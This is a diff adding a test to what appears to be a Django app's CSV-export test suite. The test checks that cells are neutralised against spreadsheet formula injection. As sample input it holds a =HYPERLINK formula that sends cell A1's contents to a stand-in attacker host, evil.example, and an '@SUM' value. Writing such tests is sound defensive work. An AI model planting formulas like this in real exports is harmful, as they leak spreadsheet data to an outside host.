@@ -756,6 +756,26 @@ def test_csv_has_one_row_per_item_and_kind(scenario, editor, client_for):
     ]
 
 
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(scenario, editor, client_for):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1;"Klicka här")'
+    model = scenario.draft_row(NextStep, "model")
+    model.text = formula
+    model.change_reason = "@SUM(1+1)"
+    model.save()
+    response = client_for(editor).get(_url(2025, csv_file=True))
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    model_rows = [r for r in rows if r["new_text"].endswith('"Klicka här")')]
+    assert model_rows
+    for row in model_rows:
+        assert row["new_text"] == "'" + formula
+        assert row["reason"] == "'@SUM(1+1)"
+        assert row["old_text"] == MODEL_OLD
+    assert not any(
+        value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values()
+    )
+
+
 def test_csv_compares_against_the_chosen_year(published, editor, reader, client_for):
     response = client_for(reader).get(_url(2025, old=2025, csv_file=True))
     assert response["Content-Disposition"] == 'attachment; filename="jamforelse-2025-2025.csv"'
